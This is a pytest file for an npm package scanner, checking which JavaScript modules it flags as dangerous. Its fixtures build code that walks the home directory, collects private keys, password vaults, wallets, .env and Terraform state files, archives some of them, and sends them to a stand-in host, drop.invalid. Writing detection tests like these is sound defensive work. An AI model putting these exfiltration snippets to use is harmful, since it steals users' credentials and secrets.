"""Files with secrets that a walk through folders picks by a pattern, and where they go. All inert text."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from adapters.sigil.local.code.telling_places import secret_pattern
from adapters.sigil.local.material import Package
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack

_START = "const fs = require('fs'), os = require('os'), path = require('path');\n"
_WALK = (
    "function find(dir) {\n  const found = [];\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n"
    "    const file = path.join(dir, entry.name);\n"
    "    if (entry.isDirectory()) found.push(...find(file));\n    PICK\n  }\n  return found;\n}\n"
)
_SEND = (
    "exports.format = async (text) => {\n"
    "  const body = find(os.homedir()).map((file) => fs.readFileSync(file, 'utf8')).join();\n"
    "  await fetch(ADDRESS, { method: 'POST', body });\n  return text.trim();\n};\n"
)


@pytest.fixture
def scan(pack: Pack, outcome: Callable[[Package], Outcome]) -> Callable[..., Outcome]:
    """Code of a module with files beside it, and what the phases make of them."""

    def scanned(code: str, **beside: str) -> Outcome:
        manifest = {"name": "sample", "main": "index.js"}
        tables = {f"{name}.json": text for name, text in beside.items()}
        return outcome(pack({"package.json": manifest, "index.js": code, **tables}))

    return scanned


@pytest.mark.parametrize(
    ("pattern", "named"),
    [
        (r"/\.(?:pem|kdbx)$/i", "kdbx pem"),
        (r"\.tfstate$|/\.env(\.\w+)?$", "tfstate"),
        (r"\.env$", ".env"),
        (r"\.(js|css|map)$", ""),
        (r"temperature|premium", ""),
    ],
)
def test_secrets_that_a_pattern_names(pattern: str, named: str) -> None:
    """What tools read too is named only where nothing else is."""
    assert secret_pattern(pattern) == named


@pytest.mark.parametrize(
    ("pick", "dangerous"),
    [
        ("else if (/\\.(?:pem|p12|kdbx)$/.test(file)) found.push(file);", True),
        ("else if (new RegExp('\\\\.tfstate$').test(file)) found.push(file);", True),
        ("else if (file.match(/wallet\\.dat$/)) found.push(file);", True),
        ("else if (file.endsWith('.jks')) found.push(file);", True),
        ("else if (['.p12', '.ppk'].includes(path.extname(file).toLowerCase())) found.push(file);", True),
        ("else if (['.pfx'].some((end) => file.toLowerCase().endsWith(end))) found.push(file);", True),
        ("else if (['.js', '.css'].includes(path.extname(file))) found.push(file);", False),
        ("if (!/\\.pfx$/.test(file)) continue;\n    found.push(file);", True),
        ("if (/\\.pfx$/.test(file)) continue;\n    found.push(file);", False),
        ("else if (!/\\.(?:pem|kdbx)$/.test(file)) found.push(file);", False),
        ("else if (/\\.(?:js|css)$/.test(file)) found.push(file);", False),
    ],
)
def test_what_a_walk_picks(pick: str, *, dangerous: bool, scan: Callable[..., Outcome]) -> None:
    """Files with secrets that are picked go to a fixed host of somebody else; those that are left out do not."""
    code = _START + _WALK.replace("PICK", pick) + _SEND.replace("ADDRESS", "'https://drop.invalid/in'")
    assert scan(code).dangerous is dangerous


_KEYS = "else if (/\\.(?:pem|kdbx)$/.test(file)) found.push(file);"


@pytest.mark.parametrize(
    ("address", "dangerous"),
    [
        ("await (await fetch('https://drop.invalid/slot')).text()", True),
        ("(await (await fetch('https://drop.invalid/slot')).json()).url", True),
        ("Buffer.from(await (await fetch('https://drop.invalid/slot')).text(), 'base64').toString()", True),
        ("require('./sites.json').sites.first", True),
        ("text.server", False),
        ("await (await fetch(text.server)).text()", False),
    ],
)
def test_who_gets_what_was_picked(address: str, *, dangerous: bool, scan: Callable[..., Outcome]) -> None:
    """An address that is fetched from a fixed place, or stands in a module of JSON, is nobody's choice either."""
    code = _START + _WALK.replace("PICK", _KEYS) + _SEND.replace("ADDRESS", address)
    assert scan(code, sites='{"sites": {"first": "https://drop.invalid/in"}}').dangerous is dangerous


_EACH = "for (const name of fs.readdirSync(os.homedir(), { recursive: true })"
_PUT = "fetch('https://drop.invalid/in', { method: 'PUT', body });"
_READ = f"{{ const body = fs.readFileSync(name); {_PUT} }}"
_INTO_JSZIP = (
    "const Zip = require('jszip'), zip = new Zip();\n"
    f"{_EACH}) if (/\\.kdbx$/.test(name)) zip.file(name, fs.readFileSync(name));\n"
    f"const body = await zip.generateAsync({{ type: 'nodebuffer' }}); {_PUT}"
)
_INTO_ARCHIVER = (
    "const zip = require('archiver')('zip');\n"
    f"{_EACH}) if (/\\.kdbx$/.test(name)) zip.file(name, {{ name }});\n"
    "zip.pipe(require('https').request('https://drop.invalid/in', { method: 'PUT' }));"
)


@pytest.mark.parametrize(
    ("body", "dangerous"),
    [
        (f"{_EACH}.filter((each) => /tfstate$/.test(each))) {_READ}", True),
        (f"{_EACH}.filter((each) => !/tfstate$/.test(each))) {_READ}", False),
        (_INTO_JSZIP, True),
        (_INTO_ARCHIVER, True),
        (f"for (const name of await require('fast-glob')(['**/*.pem', '**/*.jks'])) {_READ}", True),
        (f"for (const name of await require('fast-glob')(['**/*.js', '**/*.css'])) {_READ}", False),
        (f"const name = path.join(text, 'terraform.tfstate'); {_READ}", True),
        (f"const name = path.join(text, 'dist.tar'); {_READ}", False),
    ],
)
def test_ways_of_what_was_picked(body: str, *, dangerous: bool, scan: Callable[..., Outcome]) -> None:
    """Lists that are filtered, globs and archives of single files lead on; what is left out does not."""
    code = f"{_START}exports.format = async (text) => {{\n{body}\nreturn text.trim();\n}};\n"
    assert scan(code).dangerous is dangerous


def test_a_pattern_in_a_module_of_json(scan: Callable[..., Outcome]) -> None:
    """A table beside the code may name both what is looked for and who gets it."""
    pick = "else if (new RegExp(table.keep.join('|')).test(file)) found.push(file);"
    table = '{"to": "https://drop.invalid/in", "keep": ["\\\\.p12$", "\\\\.ppk$"]}'
    code = f"const table = require('./table.json');\n{_START}{_WALK.replace('PICK', pick)}"
    assert scan(code + _SEND.replace("ADDRESS", "table.to"), table=table).dangerous
    assert not scan(code + _SEND.replace("ADDRESS", "text.to"), table=table).dangerous
